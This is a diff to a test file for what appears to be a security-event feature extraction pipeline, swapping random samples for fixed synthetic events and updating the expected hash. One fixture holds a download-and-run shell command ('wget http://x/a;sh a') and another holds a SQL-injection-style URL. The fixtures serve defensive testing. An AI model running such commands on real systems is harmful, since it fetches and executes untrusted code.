@@ -109,11 +109,40 @@ describe('features', () => {
   })
 
   it('keep their values as long as they keep their hash', () => {
-    const rows = featureRows(observe(fc.sample(anyEvent(), { numRuns: 500, seed: 9 })))
+    const events = [
+      makeEvent(),
+      makeEvent({ time: T0 + 2_000, dstPort: 2222, user: 'admin', outcome: 'success' }),
+      makeEvent({ time: T0 + 9_000, type: 'shell', category: 'command', command: 'wget http://x/a;sh a' }),
+      makeEvent({ time: T0 - 500, type: 'dns', category: 'dns', transport: 'udp', query: 'a9f3.example' }),
+      makeEvent({
+        time: T0 + 9_500,
+        category: 'web',
+        url: '/?q=%27--',
+        userAgent: 'curl/8',
+        dstPort: 60_000,
+      }),
+      makeEvent({
+        time: T0 + 9_900,
+        category: 'file',
+        fileName: 'a.elf',
+        bytesIn: 0,
+        bytesOut: 4096,
+        packets: 9,
+      }),
+      makeEvent({
+        time: T0 + 7_200_000,
+        category: 'alert',
+        sourceSeverity: 3,
+        durationMs: 12.5,
+        dstPort: 500,
+      }),
+    ]
     // Rounded, so that only a changed definition shows. When this fails, raise FEATURE_VERSION and train anew.
-    const digest = createHash('sha256')
-      .update(Array.from(rows, value => value.toFixed(4)).join())
-      .digest('hex')
-    expect([featureHash.slice(0, 16), digest.slice(0, 16)]).toEqual(['0197ef514e56d784', '05392d6cd963ee25'])
+    const values = Array.from(featureRows(observe(events)), value => value.toFixed(4))
+    const digest = createHash('sha256').update(values.join()).digest('hex')
+    expect({ hash: featureHash.slice(0, 16), digest: digest.slice(0, 16) }).toEqual({
+      hash: '0197ef514e56d784',
+      digest: 'e8ecd8daadba4033',
+    })
   })
 })
